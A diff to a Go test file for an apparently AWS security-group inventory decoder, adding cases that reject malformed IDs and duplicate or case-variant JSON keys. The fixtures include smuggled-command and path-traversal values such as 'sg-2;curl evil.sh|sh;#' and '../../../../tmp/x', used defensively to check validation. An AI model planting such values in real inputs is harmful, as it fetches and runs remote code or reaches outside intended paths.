@@ -1,14 +1,18 @@
 package inventory
 
 import (
+	"bytes"
 	"encoding/json"
 	"errors"
 	"fmt"
 	"os"
+	"strconv"
 	"strings"
 	"testing"
 
 	"github.com/google/go-cmp/cmp"
+
+	"github.com/sgaudit/sgaudit/internal/jsonkeys"
 )
 
 func TestDecodeMatchesUnmarshal(t *testing.T) {
@@ -122,6 +126,22 @@ func TestDecodeChecksValues(t *testing.T) {
 			`security_groups[1]: group sg-2: account_id "１１１１２２２２３３３３": an account id is exactly 12 digits`},
 		{"interface account", func(m map[string]any) { item(m, "network_interfaces", 0)["account_id"] = "" },
 			`network_interfaces[0]: account_id "": an account id is exactly 12 digits`},
+		{"interface id", func(m map[string]any) { item(m, "network_interfaces", 0)["id"] = "eni-1\x1b[2J" },
+			`network_interfaces[0]: id "eni-1\x1b[2J": not an id: "eni-", then only a-z, 0-9 and "-", at most 64 bytes`},
+		{"interface group id", func(m map[string]any) { item(m, "network_interfaces", 0)["group_ids"] = []string{"sg-1", "../sg-2"} },
+			`network_interfaces[0]: group_ids[1] "../sg-2": not an id: "sg-", then only a-z, 0-9 and "-", at most 64 bytes`},
+		{"interface vpc id", func(m map[string]any) { item(m, "network_interfaces", 0)["vpc_id"] = "vpc-1;x" },
+			`network_interfaces[0]: vpc_id "vpc-1;x": not an id: "vpc-", then only a-z, 0-9 and "-", at most 64 bytes`},
+		{"vpc id", func(m map[string]any) { item(m, "vpcs", 0)["id"] = "sg-1" },
+			`vpcs[0]: id "sg-1": not an id: "vpc-", then only a-z, 0-9 and "-", at most 64 bytes`},
+		{"group id", func(m map[string]any) { item(m, "security_groups", 1)["id"] = "sg-2;curl evil.sh|sh;#" },
+			`security_groups[1]: group: id "sg-2;curl evil.sh|sh;#": not an id: "sg-", then only a-z, 0-9 and "-", at most 64 bytes`},
+		{"peer group id", func(m map[string]any) {
+			rule(m)["peer"] = map[string]any{"kind": "security_group", "group_id": "../../../../tmp/x"}
+		}, `security_groups[1]: group sg-2, rule sgr-2: peer.group_id "../../../../tmp/x": not an id: "sg-", then only a-z, 0-9 and "-", at most 64 bytes`},
+		{"attachment interface id", func(m map[string]any) {
+			item(m, "security_groups", 1)["attachments"] = []map[string]any{{"network_interface_id": "eni-1/x"}}
+		}, `security_groups[1]: group sg-2: attachments[0].network_interface_id "eni-1/x": not an id: "eni-", then only a-z, 0-9 and "-", at most 64 bytes`},
 		{"vpc account", func(m map[string]any) { item(m, "vpcs", 0)["account_id"] = "111122223333 " },
 			`vpcs[0]: account_id "111122223333 ": an account id is exactly 12 digits`},
 		{"prefix list account", func(m map[string]any) { item(m, "prefix_lists", 0)["account_id"] = "x" },
@@ -471,5 +491,75 @@ func BenchmarkDecode(b *testing.B) {
 		if _, err := Decode(raw); err != nil {
 			b.Fatal(err)
 		}
+	}
+}
+
+// TestDecodeRefusesKeys: encoding/json keeps the last of two equal keys
+// and matches keys ignoring case, so each edit below emptied a list
+// of the file without a word (issue 9). Each is an ErrKey naming the key
+// and its line and column.
+func TestDecodeRefusesKeys(t *testing.T) {
+	valid := string(inventoryJSON(t, nil))
+	// One key per line, so that a line and column name one key.
+	var ind bytes.Buffer
+	if err := json.Indent(&ind, []byte(valid), "", " "); err != nil {
+		t.Fatal(err)
+	}
+	base := ind.String()
+	last := strings.LastIndex(base, "}")
+	tests := []struct {
+		name, raw, key string
+		path           []string
+		first          string
+		unknown        bool
+	}{
+		{name: "top-level key twice", raw: base[:last] + ",\n\"security_groups\":[]}", key: "security_groups", first: "security_groups"},
+		{name: "top-level key in another case", raw: base[:last] + ",\n\"Security_Groups\":[]}", key: "Security_Groups", first: "security_groups"},
+		{name: "rules twice by case", raw: strings.Replace(base, `"rules": [`, `"rules": [], "Rules": [`, 1), key: "Rules", path: []string{"security_groups", "0"}, first: "rules"},
+		{name: "rules twice", raw: strings.Replace(base, `"rules": [`, `"rules": [], "rules": [`, 1), key: "rules", path: []string{"security_groups", "0"}, first: "rules"},
+		{name: "alias of a field", raw: strings.Replace(base, `"rules": [`, `"Rules": [`, 1), key: "Rules", path: []string{"security_groups", "0"}, unknown: true},
+		{name: "unknown key in a rule", raw: strings.Replace(base, `"from_port": 22`, `"from_port": 22, "fromport": 1`, 1), key: "fromport", path: []string{"security_groups", "0", "rules", "0"}, unknown: true},
+		{name: "unknown key in a peer", raw: strings.Replace(base, `"kind": "cidr_ipv4"`, `"kind": "cidr_ipv4", "Kind": "security_group"`, 1), key: "Kind", path: []string{"security_groups", "0", "rules", "0", "peer"}, first: "kind"},
+		{name: "tag twice", raw: strings.Replace(base, `"env": "prod"`, `"env": "prod", "env": "dev"`, 1), key: "env", path: []string{"security_groups", "0", "tags"}, first: "env"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if tt.raw == base {
+				t.Fatal("the edit changed nothing")
+			}
+			_, err := Decode([]byte(tt.raw))
+			var ke *jsonkeys.Error
+			if !errors.Is(err, ErrKey) || !errors.As(err, &ke) {
+				t.Fatalf("Decode: %v, want an ErrKey", err)
+			}
+			got := struct {
+				Key, First string
+				Path       []string
+				Unknown    bool
+			}{ke.Key, ke.First, ke.Path, ke.Unknown}
+			want := got
+			want.Key, want.First, want.Path, want.Unknown = tt.key, tt.first, tt.path, tt.unknown
+			if diff := cmp.Diff(want, got); diff != "" {
+				t.Errorf("error %v (-want +got):\n%s", err, diff)
+			}
+			// The position is the key's: its quoted name starts there.
+			lines := strings.Split(tt.raw, "\n")
+			if ke.Line < 1 || ke.Line > len(lines) || !strings.HasPrefix(lines[ke.Line-1][ke.Col-1:], strconv.Quote(tt.key)) {
+				t.Errorf("error %v: line %d column %d is not where %q is", err, ke.Line, ke.Col, tt.key)
+			}
+			if !strings.Contains(err.Error(), fmt.Sprintf("line %d column %d", ke.Line, ke.Col)) {
+				t.Errorf("error %q does not name line and column", err)
+			}
+		})
+	}
+	// The same keys in two tags, differing in case, are two tags: AWS tag
+	// keys are case-sensitive.
+	raw := strings.Replace(base, `"env": "prod"`, `"env": "prod", "Env": "dev"`, 1)
+	inv, err := Decode([]byte(raw))
+	if err != nil {
+		t.Fatalf("tags env and Env: %v", err)
+	}
+	if got := len(inv.SecurityGroups[0].Tags.Map()); got != 2 {
+		t.Errorf("tags env and Env: %d tags, want 2", got)
 	}
 }
